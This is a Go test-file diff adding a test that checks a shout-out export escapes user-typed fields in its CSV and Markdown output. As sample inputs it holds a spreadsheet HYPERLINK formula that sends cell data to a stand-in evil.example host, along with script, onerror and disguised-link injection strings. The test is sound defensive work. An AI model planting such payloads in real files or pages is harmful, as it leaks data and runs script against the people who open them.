@@ -4,10 +4,15 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
 	"unicode/utf8"
+
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
+	"github.com/yuin/goldmark/renderer/html"
 )
 
 func seedExport(t *testing.T) *env {
@@ -196,5 +201,72 @@ func FuzzParseShoutout(f *testing.F) {
 		}
 		_ = reasonKey(p.Reason)
 		_ = CountWords(p.Reason)
+	})
+}
+
+// TestExportEscapesEveryField (issue 15.6): what members can put in a
+// shout-out (a console ID or name is whatever they typed) must reach a
+// spreadsheet as text and a rendered Markdown page as text.
+func TestExportEscapesEveryField(t *testing.T) {
+	const formula = `=HYPERLINK("https://evil.example/?d="&A1,"open")`
+	const markup = `<script>alert(1)</script> [login](https://evil.example/login) ![x](https://evil.example/t.png) <img src=x onerror=alert(1)> **loud** | cell`
+	at := time.Date(2026, 1, 2, 9, 0, 0, 0, time.UTC)
+	list := []Shoutout{
+		{ID: 1, GiverID: formula, GiverName: "+" + formula, RecipientID: "@mo:example.org", RecipientName: "-2+3",
+			Reason: markup, Category: "crisis", Platform: "console", RoomID: "=1+1", CreatedAt: at},
+		{ID: 2, GiverID: "UALICE", GiverName: markup, RecipientID: "UBOB", RecipientName: markup, Reason: formula,
+			Platform: "slack", RoomID: "C1", CreatedAt: at, RetractedAt: at, RetractedBy: formula, RetractReason: markup},
+	}
+
+	t.Run("csv", func(t *testing.T) {
+		var buf bytes.Buffer
+		if err := WriteExport(&buf, "csv", list); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("column %s starts like a formula: %q", rows[0][i], cell)
+				}
+			}
+		}
+		if rows[1][1] != "'"+formula || rows[1][3] != "'@mo:example.org" {
+			t.Errorf("IDs not kept readable behind the quote: %q %q", rows[1][1], rows[1][3])
+		}
+	})
+
+	t.Run("markdown", func(t *testing.T) {
+		var buf bytes.Buffer
+		if err := WriteExport(&buf, "markdown", list); err != nil {
+			t.Fatal(err)
+		}
+		// Rendered as a permissive viewer would: tables, raw HTML allowed.
+		md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
+		var out bytes.Buffer
+		if err := md.Convert(buf.Bytes(), &out); err != nil {
+			t.Fatal(err)
+		}
+		page := out.String()
+		for _, bad := range []string{"<script", "<img", "<strong>", ">login</a>"} {
+			if strings.Contains(page, bad) {
+				t.Errorf("rendered export contains %q:\n%s", bad, page)
+			}
+		}
+		// A viewer may link a bare address, showing it; never a label.
+		for _, m := range regexp.MustCompile(`<a href="([^"]*)">([^<]*)</a>`).FindAllStringSubmatch(page, -1) {
+			if m[1] != m[2] {
+				t.Errorf("labelled link %q -> %q in the rendered export", m[2], m[1])
+			}
+		}
+		if strings.Count(page, "<tr>") != 3 || strings.Count(page, "<td") != 14 {
+			t.Errorf("table broken (want 3 rows, 14 cells):\n%s", page)
+		}
+		if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt; [login](") || !strings.Contains(page, "**loud** | cell") {
+			t.Errorf("the reason is not shown as typed:\n%s", page)
+		}
 	})
 }
